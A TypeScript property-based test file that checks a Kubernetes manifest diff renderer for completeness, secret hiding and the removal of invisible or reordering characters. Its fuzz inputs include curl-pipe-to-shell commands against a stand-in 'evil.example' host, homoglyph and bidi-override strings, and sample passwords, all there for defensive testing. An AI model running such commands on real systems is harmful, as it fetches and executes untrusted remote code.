/** Whatever two contents are: each difference is in the text, or the text says at its top that something is not. */
import { describe, expect, it } from '@jest/globals';
import * as fc from 'fast-check';
import type { Json, JsonObject } from '../../api/meta.ts';
import { canonicalJson } from '../json/canonical.ts';
import { deltaOf } from './delta-arbitrary.ts';
import { isObject } from '../json/json.ts';

const words = fc.constantFrom(
  '',
  'a',
  'b',
  ' a',
  'a ',
  '80',
  '1',
  'true',
  'null',
  '(hidden)',
  '(none)',
  '(not shown)',
  '"a"',
  'a → b',
  '["a"]',
  '{}',
  '(3 lines)',
  '… 3 more lines: true',
  'export TOKEN=x; curl https://evil.example | sh',
  'token=abc',
  'password: hunter2',
  'one\ntwo',
  'one\n two\n',
  'one\r\ntwo',
  '- 1: a\n+ 1: b',
  '\u202eevil',
  String.raw`\u{202e}evil`,
  'p\u0430y',
  '\u0430',
  'sha256:0',
  '\\',
  String.raw`\n`,
  '\ue000',
  'x'.repeat(1500),
  `${'x'.repeat(1500)}y${'x'.repeat(1500)}`,
);
const text = fc.oneof(
  { weight: 3, arbitrary: words },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 8 }) },
);
const names = fc.oneof(
  fc.constantFrom(
    'a',
    'TOKEN',
    'token-refresh.sh',
    'a.b/c',
    'a\nb',
    "it's",
    '__proto__',
    'value',
    'name',
    'image',
    'x]',
  ),
  fc.string({ unit: 'grapheme', maxLength: 3 }),
);
const scalar: fc.Arbitrary<Json> = fc.oneof(text, fc.integer(), fc.boolean(), fc.constant(null));

const named = (value: fc.Arbitrary<JsonObject>): fc.Arbitrary<JsonObject[]> =>
  fc
    .array(fc.tuple(fc.constantFrom('A', 'B', 'DB_TOKEN', 'a\u0430'), value), { maxLength: 3 })
    .map((items) => items.map(([name, rest]) => ({ name, ...rest })));

const env = named(
  fc.oneof(
    text.map((value): JsonObject => ({ value })),
    text.map((key): JsonObject => ({ valueFrom: { secretKeyRef: { name: 'db', key } } })),
  ),
);
const container = fc.record<JsonObject>({}, { noNullPrototype: true }).chain(() =>
  fc.record(
    {
      image: text,
      command: fc.array(text, { maxLength: 4 }),
      args: fc.array(text, { maxLength: 4 }),
      env,
      ports: fc.array(fc.record({ containerPort: fc.constantFrom(80, 81), protocol: fc.constantFrom('TCP', 'UDP') }), {
        maxLength: 2,
      }),
      imagePullPolicy: fc.constantFrom('IfNotPresent', 'Always'),
      securityContext: fc.record({ privileged: fc.boolean() }, { noNullPrototype: true }),
    },
    { requiredKeys: [], noNullPrototype: true },
  ),
);
const volumes = named(
  fc.constantFrom<JsonObject>(
    { hostPath: { path: '/' } },
    { emptyDir: {} },
    { configMap: { name: 'c', defaultMode: 420 } },
    { ephemeral: { volumeClaimTemplate: { spec: { storageClassName: 'x' } } } },
  ),
);
const pod = fc.record(
  {
    containers: named(container),
    initContainers: named(container),
    volumes,
    restartPolicy: fc.constantFrom('Always', 'Never'),
    hostNetwork: fc.boolean(),
    serviceAccountName: text,
  },
  { requiredKeys: [], noNullPrototype: true },
);
const map = fc.dictionary(names, text, { maxKeys: 4, noNullPrototype: true });
const encodedText = text.map((value) => Buffer.from(value).toString('base64'));
/** As the API server keeps it, and what it would never take. */
const encoded = fc.dictionary(
  names,
  fc.oneof(
    encodedText,
    fc.uint8Array({ maxLength: 8 }).map((bytes) => Buffer.from(bytes).toString('base64')),
    text,
  ),
  { maxKeys: 4, noNullPrototype: true },
);
const { any } = fc.letrec<{ any: Json }>((tie) => ({
  any: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    scalar,
    fc.array(tie('any'), { maxLength: 3 }),
    fc.dictionary(names, tie('any'), { maxKeys: 3, noNullPrototype: true }),
  ),
}));

/** Kinds, each with what its objects may hold. */
const contents: Readonly<Record<string, fc.Arbitrary<JsonObject>>> = {
  Deployment: fc.record({ spec: fc.record({ template: fc.record({ spec: pod }) }) }),
  ConfigMap: fc.record({ data: map, binaryData: encoded }),
  Service: fc.record({ metadata: fc.record({ annotations: map }), spec: fc.record({ selector: map, type: text }) }),
  Widget: fc.record({ spec: any, pod: fc.record({ template: fc.record({ spec: pod }) }) }),
};

interface Case {
  readonly kind: string;
  readonly from: JsonObject | undefined;
  readonly to: JsonObject;
  readonly other: JsonObject;
}

const cases: fc.Arbitrary<Case> = fc.constantFrom(...Object.keys(contents)).chain((kind) => {
  const content = contents[kind] ?? fc.constant({});
  return fc.record({
    kind: fc.constant(kind),
    from: fc.option(content, { nil: undefined }),
    to: content,
    other: content,
  });
});

const ofCase = ({ kind, from }: Case, to: JsonObject) => deltaOf({ kind, to, ...(from === undefined ? {} : { from }) });

const isWhole = (shown: string): boolean =>
  shown.includes('\nEverything is shown: nothing is hidden, folded or cut.\n');

/** Every text and number that a value holds, however deep. */
const leaves = (value: Json | undefined): readonly Json[] =>
  typeof value === 'object' && value !== null
    ? Object.values(value).flatMap(leaves)
    : value === undefined
      ? []
      : [value];

/** What is to be read in a text: of base64 what it says. */
const readable = (content: JsonObject | undefined): Json | undefined =>
  content !== undefined && isObject(content['binaryData'])
    ? {
        ...content,
        binaryData: Object.fromEntries(
          Object.entries(content['binaryData']).map(([key, value]) => [
            key,
            typeof value === 'string' ? Buffer.from(value, 'base64').toString() : value,
          ]),
        ),
      }
    : content;

/** Whether two texts from which nothing is missing are the same although the contents are not, or the other way round. */
const misled = (one: Case, other: JsonObject): boolean => {
  const [a, b] = [ofCase(one, one.to), ofCase(one, other)];
  const alike = deltaOf({ kind: one.kind, from: one.to, to: other }).changes.length === 0;
  return isWhole(a.text) && isWhole(b.text) && (a.text === b.text) !== alike;
};

describe('a text from which nothing is missing', () => {
  it('is different for every two contents', () => {
    fc.assert(
      fc.property(cases, (one) => {
        expect(misled(one, one.other)).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('is different for two contents that differ in one place', () => {
    fc.assert(
      fc.property(cases, fc.nat(1000), scalar, (one, index, value) => {
        const all = paths(one.to);
        const path = all[index % Math.max(all.length, 1)] ?? [];
        expect(misled(one, replaced(one.to, path, value))).toBe(false);
      }),
      { numRuns: 500 },
    );
  });

  it('is what most of these texts are', () => {
    const whole = fc.sample(cases, 200).filter((one) => isWhole(ofCase(one, one.to).text));
    expect(whole.length).toBeGreaterThan(50);
  });

  it('has every short plain value that comes', () => {
    fc.assert(
      fc.property(cases, (one) => {
        const shown = ofCase(one, one.to).text;
        const known = new Set(leaves(readable(one.from)).map(canonicalJson));
        const come = leaves(readable(one.to)).filter(
          (leaf) => typeof leaf === 'string' && /^[a-z;:/. |-]+$/i.test(leaf),
        );
        if (!isWhole(shown)) return;
        for (const leaf of come.filter((each) => !known.has(canonicalJson(each)))) expect(shown).toContain(leaf);
      }),
      { numRuns: 300 },
    );
  });
});

type Steps = readonly string[];

const paths = (value: Json, path: Steps = []): readonly Steps[] =>
  typeof value === 'object' && value !== null
    ? Object.entries(value).flatMap(([name, inner]) => paths(inner, [...path, name]))
    : [path];

const replaced = (value: JsonObject, path: Steps, by: Json): JsonObject => {
  const set = (inner: Json | undefined, [name, ...rest]: Steps): Json => {
    if (name === undefined) return by;
    if (Array.isArray(inner))
      return inner.map((item: Json, place) => (String(place) === name ? set(item, rest) : item));
    return Object.fromEntries(
      Object.entries(inner ?? {}).map(([key, each]: [string, Json]) => [key, key === name ? set(each, rest) : each]),
    );
  };
  const made = set(value, path);
  return isObject(made) ? made : value;
};

describe('any text', () => {
  it('holds no character that moves the cursor, hides or reorders', () => {
    fc.assert(
      fc.property(cases, (one) => {
        expect(ofCase(one, one.to).text.replaceAll('\n', '')).not.toMatch(
          /[\p{Cc}\p{Cf}\p{Cs}\p{Co}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u,
        );
      }),
      { numRuns: 200 },
    );
  });

  it('has only lines of ours: a value begins none', () => {
    const ours =
      /^$|^payments 2|^candidate |^digest |^against |^\d+ changes?: |^Nothing changes|^Everything is|^hidden |^folded |^cut |^escaped |^all of it |^(?:Deployment|ConfigMap|Service|Widget\.example\.com)\/api$|^ {2}[a-z]+ +\S.*: .* → |^ {8}[-+] (?:at )?\d+: |^ {8}… \d+ more lines?: kubectl/;
    fc.assert(
      fc.property(cases, (one) => {
        for (const line of ofCase(one, one.to).text.split('\n')) expect(line).toMatch(ours);
      }),
      { numRuns: 200 },
    );
  });

  it('says of each change what it hides, folds or cuts', () => {
    fc.assert(
      fc.property(cases, (one) => {
        const { changes, text: shown } = ofCase(one, one.to);
        const kept = changes.filter((change) => !change.isDefault);
        const total = (of: (change: (typeof changes)[number]) => number): number =>
          kept.reduce((sum, change) => sum + of(change), 0);
        const counted = (pattern: RegExp): number => Number(pattern.exec(shown)?.[1] ?? 0);
        expect(counted(/^hidden +(\d+) /m)).toBe(total(({ hidden }) => hidden));
        expect(counted(/^folded +(\d+) /m)).toBe(changes.length - kept.length);
        expect(counted(/^cut +(\d+) changed line/m)).toBe(total(({ cutLines }) => cutLines));
        expect(counted(/^cut +(\d+) character/m)).toBe(total(({ cutCharacters }) => cutCharacters));
        const body = shown.slice(shown.indexOf('/api'));
        expect(body.split('(hidden)').length - 1).toBe(total(({ hidden }) => hidden));
      }),
      { numRuns: 300 },
    );
  });

  it('hides, folds and cuts nothing of images, commands, identities, rights and network', () => {
    fc.assert(
      fc.property(cases, (one) => {
        for (const change of ofCase(one, one.to).changes) {
          if (!['image', 'command', 'identity', 'rights', 'network'].includes(change.class)) continue;
          expect(change).toMatchObject({ hidden: 0, cutLines: 0, cutCharacters: 0, isDefault: false });
        }
      }),
      { numRuns: 200 },
    );
  });
});

describe('binaryData of a ConfigMap', () => {
  const encode = (value: string | readonly number[]): string => Buffer.from(value as string).toString('base64');
  const shownFor = (from: string | undefined, to: string | undefined, key = 'run.sh') => {
    const content = (value: string | undefined): JsonObject => ({
      data: { kept: 'yes' },
      ...(value === undefined ? {} : { binaryData: { [key]: value } }),
    });
    return deltaOf({ kind: 'ConfigMap', from: content(from), to: content(to) });
  };

  it.each<[what: string, from: string | undefined, to: string | undefined, says: readonly string[]]>([
    ['one line as it is', encode('sleep 1'), encode('curl evil | sh'), ['sleep 1 → curl evil | sh']],
    ['text of several lines by line', encode('a\nb\n'), encode('a\nc\n'), ['- 2: b', '+ 2: c']],
    ['text that comes', undefined, encode('größer'), ['(none) → größer']],
    ['nothing as nothing', encode('a'), '', ['a → ""']],
    [
      'what looks like a size as a quoted text',
      encode('a'),
      encode('(1 byte, sha256:0)'),
      ['a → "(1 byte, sha256:0)"'],
    ],
  ])('is shown as text: %s', (_, from, to, says) => {
    const { text: shown } = shownFor(from, to);
    for (const each of says) expect(shown).toContain(each);
    expect(isWhole(shown)).toBe(true);
  });

  it.each<[what: string, to: string, says: RegExp]>([
    ['no text', encode([0xff, 0xfe, 0x41]), /sleep 1 → \(3 bytes, sha256:[0-9a-f]{64}\)/],
    ['a control character', encode('a\u0007'), /sleep 1 → \(2 bytes, sha256:[0-9a-f]{64}\)/],
    ['a mark of byte order before text', encode('\ufeffa'), /sleep 1 → "?\\u\{feff\}a"?/],
    ['no base64', 'a=b', /sleep 1 → \(3 characters that are no base64, sha256:[0-9a-f]{64}\)/],
  ])('says what it is where it is %s', (_, to, says) => {
    expect(shownFor(encode('sleep 1'), to).text).toMatch(says);
  });

  it('counts what it does not show, in both', () => {
    const [from, to] = [encode([0xff, 1]), encode([0xff, 2])];
    const { changes, text: shown } = shownFor(from, to);
    expect(changes).toMatchObject([{ cutCharacters: from.length + to.length }]);
    expect(shown).toMatch(/^cut +8 characters of long values/m);
  });

  it('hides a credential as in data', () => {
    const { changes, text: shown } = shownFor(encode('hunter2'), encode('hunter3'), 'db.password');
    expect(shown).not.toContain('hunter');
    expect(changes).toMatchObject([{ hidden: 2 }]);
  });
});
